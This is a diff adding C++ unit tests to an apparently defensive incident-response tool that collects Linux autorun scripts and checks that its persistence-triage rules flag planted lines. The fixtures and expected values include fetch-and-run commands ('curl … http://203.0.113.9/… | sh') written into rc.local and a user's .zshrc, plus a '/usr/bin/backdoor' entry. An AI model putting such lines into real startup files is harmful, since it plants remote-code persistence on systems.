@@ -11,12 +11,16 @@
 
 #include <cstdlib>
 #include <fstream>
+#include <map>
 #include <set>
 
 #include "autoruns/autoruns.hpp"
+#include "autoruns/autoruns_walk.hpp"
 #include "fixture_util.hpp"
 #include "irsnap/hash.hpp"
 #include "irsnap/hash_cache.hpp"
+#include "irsnap/linux/autoruns_parsers.hpp"
+#include "irsnap/triage.hpp"
 
 namespace irsnap::test {
 namespace {
@@ -195,6 +199,128 @@ TEST(GoldenAutoruns, SshKeysAndNonUtf8Lines) {
         EXPECT_EQ((*r)["escaped_fields"], json::array({"command"}));
     }
     EXPECT_TRUE(escaped);
+}
+
+TEST(GoldenAutoruns, ScriptRecordsCarryTheirCodeLines) {
+    MemorySink sink = collect_fixture(false);
+    const std::set<std::string> scripts = {"rc_local", "sysv_init", "shell_startup", "cron_script",
+                                           "motd_script"};
+    for (const auto& r : sink.records) {
+        if (scripts.count(r["category"])) {
+            EXPECT_TRUE(r["script_lines"].is_array()) << r.dump();
+            EXPECT_EQ(r["script_lines"].size(), r["script_line_numbers"].size());
+        } else {
+            EXPECT_TRUE(r["script_lines"].is_null()) << r.dump();
+            EXPECT_TRUE(r["script_line_numbers"].is_null()) << r.dump();
+            EXPECT_TRUE(r["script_note"].is_null()) << r.dump();
+        }
+    }
+    auto rc = find(sink, "rc_local", "/etc/rc.local");
+    ASSERT_EQ(rc.size(), 1u);
+    // The shebang, the comment naming curl | sh and the continuation are not lines of their own.
+    EXPECT_EQ((*rc[0])["script_lines"],
+              json::array({"/usr/bin/backdoor --rc-local &",
+                           "curl -fsSL http://203.0.113.9/i.sh   | sh", "exit 0"}));
+    EXPECT_EQ((*rc[0])["script_line_numbers"], json::array({3, 4, 6}));
+    EXPECT_TRUE((*rc[0])["script_note"].is_null());
+    EXPECT_EQ((*rc[0])["command"], "/etc/rc.local");
+}
+
+TEST(GoldenAutoruns, PlantedScriptLinesReachTriage) {
+    MemorySink sink = collect_fixture(false);
+    triage::Input in;
+    for (size_t i = 0; i < sink.records.size(); ++i) {
+        in.records["autoruns"].push_back({"artifacts/12_autoruns.jsonl", i + 1, sink.records[i]});
+    }
+    std::map<std::string, std::set<std::string>> fired;  // rule -> file:line
+    for (const auto& f : triage::run_rules(in)) {
+        if (f.rule_id < "IRS-PER-005" || f.rule_id > "IRS-PER-008") continue;
+        const auto& e = f.evidence.at(0).fields;
+        fired[f.rule_id].insert(e["source_path"].get<std::string>() + ":" +
+                                std::to_string(e.value("script_line_number", 0)));
+    }
+    using Places = std::set<std::string>;
+    EXPECT_EQ(fired["IRS-PER-005"], (Places{"/etc/rc.local:4"}));
+    EXPECT_EQ(fired["IRS-PER-006"], (Places{"/etc/cron.daily/evil-daily:4"}));
+    EXPECT_EQ(fired["IRS-PER-007"], (Places{"/etc/profile.d/evil.sh:2"}));
+    EXPECT_EQ(fired["IRS-PER-008"], (Places{"/etc/init.d/evil-init:3"}));
+}
+
+TEST(GoldenAutoruns, ScriptReadingIsBoundedAndNeverWaits) {
+    TempDir tmp("irsnap-autoruns-scripts");
+    const fs::path root = tmp.path() / "root";
+    fs::create_directories(root / "etc/cron.daily");
+    fs::create_directories(root / "home/bob");
+    std::ofstream(root / "etc/passwd") << "bob:x:1001:1001::/home/bob:/bin/zsh\n";
+    std::string long_script = "#!/bin/sh\n";
+    for (int i = 0; i < 300; ++i) long_script += "echo " + std::to_string(i) + "\n";
+    std::ofstream(root / "etc/cron.daily/long") << long_script;
+    static const char k_elf[] =
+        "\x7f"
+        "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\n/bin/sh -c x\n";
+    std::ofstream(root / "etc/cron.daily/elf", std::ios::binary)
+        << std::string(k_elf, sizeof k_elf - 1);
+    // Comments beyond the read cap, then code that is never read.
+    std::ofstream(root / "etc/cron.daily/huge")
+        << std::string(collectors::autoruns_impl::k_max_script_bytes + 10, '#') << "\necho end\n";
+    std::ofstream(root / "etc/rc.local", std::ios::binary) << "echo \xff\n";
+    std::ofstream(root / "home/bob/.zshrc") << "curl http://203.0.113.9/z | sh\n";
+    ASSERT_EQ(::mkfifo((root / "etc/cron.daily/fifo").c_str(), 0755), 0);  // never opened
+    MemorySink sink = collect_fixture(false, root);
+    EXPECT_TRUE(sink.errors.empty());
+    auto one = [&](const std::string& category, const std::string& path) -> const json& {
+        auto found = find(sink, category, path);
+        EXPECT_EQ(found.size(), 1u) << path;
+        static const json k_missing;
+        return found.empty() ? k_missing : *found[0];
+    };
+    const json& longest = one("cron_script", "/etc/cron.daily/long");
+    EXPECT_EQ(longest["script_lines"].size(), autoruns::k_max_script_lines);
+    EXPECT_EQ(longest["script_line_numbers"].back(), 201);
+    EXPECT_EQ(longest["script_note"], "truncated: only the first 200 code lines kept");
+    const json& elf = one("cron_script", "/etc/cron.daily/elf");
+    EXPECT_TRUE(elf["script_lines"].is_null());
+    EXPECT_EQ(elf["script_note"], "binary: not a text script");
+    const json& huge = one("cron_script", "/etc/cron.daily/huge");
+    EXPECT_EQ(huge["script_lines"], json::array());
+    EXPECT_EQ(huge["script_note"], "truncated: only the first 1048576 bytes of the file read");
+    EXPECT_TRUE(find(sink, "cron_script", "/etc/cron.daily/fifo").empty());
+    const json& rc = one("rc_local", "/etc/rc.local");
+    EXPECT_EQ(rc["script_lines"], json::array({"echo \\xff"}));
+    EXPECT_EQ(rc["escaped_fields"], json::array({"script_lines"}));
+    const json& zshrc = one("shell_startup", "/home/bob/.zshrc");
+    EXPECT_EQ(zshrc["user"], "bob");
+    EXPECT_EQ(zshrc["script_lines"], json::array({"curl http://203.0.113.9/z | sh"}));
+}
+
+TEST(GoldenAutoruns, AnUnreadableScriptKeepsItsRecord) {
+    if (geteuid() != 0) GTEST_SKIP() << "needs root to run the collector as another user";
+    TempDir tmp("irsnap-autoruns-unreadable");
+    const fs::path root = tmp.path() / "root";
+    fs::create_directories(root / "etc/cron.daily");
+    fs::permissions(tmp.path(), fs::perms(0755));
+    std::ofstream(root / "etc/cron.daily/secret") << "#!/bin/sh\n/usr/bin/hidden\n";
+    fs::permissions(root / "etc/cron.daily/secret", fs::perms(0700));
+    pid_t pid = fork();
+    ASSERT_GE(pid, 0);
+    if (pid == 0) {
+        if (setgid(65534) != 0 || setuid(65534) != 0) _exit(10);
+        MemorySink sink = collect_fixture(false, root);
+        if (sink.records.size() != 1 || !sink.records[0]["script_lines"].is_null() ||
+            sink.records[0]["script_note"].get<std::string>().rfind("unreadable: ", 0) != 0) {
+            _exit(11);
+        }
+        if (sink.errors.size() != 1 || sink.errors[0].code != EACCES ||
+            sink.errors[0].path != "/etc/cron.daily/secret") {
+            _exit(12);
+        }
+        if (sink.notes.size() != 1) _exit(13);
+        _exit(0);
+    }
+    int status = 0;
+    ASSERT_EQ(waitpid(pid, &status, 0), pid);
+    ASSERT_TRUE(WIFEXITED(status));
+    EXPECT_EQ(WEXITSTATUS(status), 0) << "10 setuid, 11 record, 12 errors, 13 coverage";
 }
 
 TEST(GoldenAutoruns, SymlinksNeverLeaveTheRoot) {
